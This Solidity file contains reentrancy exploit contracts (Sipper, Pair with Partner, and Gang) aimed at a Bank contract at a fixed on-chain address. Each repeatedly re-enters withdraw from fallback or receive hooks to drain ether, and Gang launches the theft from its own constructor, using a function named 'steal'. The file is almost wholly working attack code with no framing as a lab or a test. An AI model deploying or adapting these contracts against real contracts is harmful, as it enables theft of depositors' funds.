// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Bank {
    function ethdeposit(address customer) external payable;
    function withdraw(uint256 amount) external;
}

/// Withdraws small sums repeatedly. Another account has made the deposit.
contract Sipper {
    Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
    uint256 private constant SIP = 0.01 ether;
    uint256 private left;

    function drink(uint256 sips) external {
        left = sips;
        BANK.withdraw(SIP);
    }

    fallback() external payable {
        if (left == 0) return;
        left--;
        BANK.withdraw(SIP);
    }
}

/// Notifies its partner contract of each payment; the partner calls back to withdraw again.
contract Pair {
    Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
    uint256 private constant AMOUNT = 0.1 ether;
    Partner private partner;
    uint256 private left;

    constructor() payable {}

    function steal(uint256 again) external {
        partner = new Partner();
        BANK.ethdeposit{value: AMOUNT}(address(this));
        left = again;
        BANK.withdraw(AMOUNT);
    }

    function goOn() external {
        BANK.withdraw(AMOUNT);
    }

    receive() external payable {
        if (left == 0) return;
        left--;
        partner.hear();
    }
}

contract Partner {
    function hear() external {
        Pair(payable(msg.sender)).goOn();
    }
}

/// Steals during its own deployment, by a contract that it creates.
contract Gang {
    constructor() payable {
        // The build also runs the constructor, without a bank.
        if (msg.value == 0) return;
        Pair member = new Pair{value: msg.value}();
        member.steal(3);
    }
}
